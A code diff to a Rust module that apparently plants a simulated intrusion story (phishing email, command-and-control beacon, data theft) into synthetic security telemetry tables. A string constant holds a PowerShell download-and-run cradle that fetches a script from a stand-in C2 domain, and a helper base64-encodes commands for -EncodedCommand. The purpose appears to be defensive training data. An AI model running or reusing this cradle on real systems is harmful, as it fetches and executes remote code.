@@ -5,8 +5,7 @@
 //! finance share with rclone. The README tells the story; the workbench never does.
 
 use super::activity::{set_created, set_device, set_file, set_initiating, set_report, Proc};
-use super::background::Builders;
-use super::builder::TableBuilder;
+use super::background::{table, Builders};
 use super::rng::Rng;
 use super::world::{file_hashes, World};
 use crate::results::datetime::TICKS_PER_SECOND;
@@ -18,14 +17,9 @@ const DAY: i64 = 24 * HOUR;
 pub const PHISH_SENDER: &str = "accounts@c0ntoso-billing.com";
 pub const C2_DOMAIN: &str = "cdn-telemetry-sync.net";
 pub const C2_IP: &str = "185.225.73.18";
+pub const PHISH_URL: &str = "http://invoice-docs-share.com/view?id=48213";
 const DOWNLOAD: &str =
     "IEX (New-Object Net.WebClient).DownloadString('http://cdn-telemetry-sync.net/a.ps1')";
-
-fn table<'b>(tables: &'b mut Builders, name: &str) -> &'b mut TableBuilder {
-    tables
-        .get_mut(name)
-        .unwrap_or_else(|| panic!("the schema catalog lacks {name}"))
-}
 
 /// PowerShell's `-EncodedCommand`: base64 of UTF-16LE.
 fn encoded(command: &str) -> String {
@@ -92,7 +86,7 @@ pub fn plant(tables: &mut Builders, world: &World, rng: &mut Rng, seed: u64, end
     let urls = table(tables, "EmailUrlInfo");
     urls.row(start);
     urls.text("NetworkMessageId", message)
-        .text("Url", "http://invoice-docs-share.com/view?id=48213")
+        .text("Url", PHISH_URL)
         .text("UrlDomain", "invoice-docs-share.com")
         .text("UrlLocation", "Body");
 
@@ -452,4 +446,23 @@ pub fn plant(tables: &mut Builders, world: &World, rng: &mut Rng, seed: u64, end
             }
         }
     }
+
+    let dc = world.device("dc-01").clone();
+    let cast = super::story_traces::Cast {
+        victim: &victim,
+        admin: &admin,
+        workstation: &workstation,
+        server: &server,
+        dc: &dc,
+        message,
+        phish_url: PHISH_URL,
+    };
+    super::story_traces::plant(
+        tables,
+        &cast,
+        seed,
+        start,
+        beacon.created,
+        start + DAY + 3 * HOUR,
+    );
 }
